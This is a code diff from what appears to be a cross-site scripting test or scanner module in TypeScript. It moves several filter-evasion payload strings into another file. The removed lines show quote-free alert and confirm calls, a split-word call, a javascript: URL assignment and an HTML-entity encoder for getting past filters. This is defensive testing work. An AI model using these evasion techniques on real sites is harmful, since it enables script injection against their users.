@@ -1,4 +1,5 @@
 import type { Reflection } from './reflection.ts';
+import { addressCall, bareCall, call, otherCall, spelledCall, upperCall } from './script-calls.ts';
 
 /** A value that makes a dialog with the trial's nonce when it is run, and what has to be clicked for that. */
 export type Payload = {
@@ -8,24 +9,7 @@ export type Payload = {
   isLoaded?: true;
 };
 
-/** Calls without quotes, since those are what is most often escaped: with parentheses, and without. */
-export const call = 'alert(/‹nonce›/.source)';
-const bareCall = 'alert`‹nonce›`';
-/** Filters that list words know the commonest calls. */
-const otherCall = 'confirm`‹nonce›`';
-const spelledCall = 'self[/al/.source+/ert/.source](/‹nonce›/.source)';
-/** Neither parentheses nor backticks. */
-const addressCall = 'location=/javascript:alert%28%27‹nonce›%27%29/.source';
-
-/** Code without letters of its own: decimal references are characters again in a handler, and have no upper case. */
-const inReferences = (code: string): string =>
-  code
-    .split('‹nonce›')
-    .map((part) => part.replace(/./gsu, (sign) => `&#${sign.codePointAt(0)};`))
-    .join('‹nonce›');
-const upperCall = inReferences('alert(/‹nonce›/.source.toLowerCase())');
-
-const pixel = 'data:image/gif;base64,R0lGODlhAQABAAAAACw=';
+export const pixel = 'data:image/gif;base64,R0lGODlhAQABAAAAACw=';
 
 /** Markup that runs by itself, each way past another habit of filters. */
 const markup: Payload[] = [
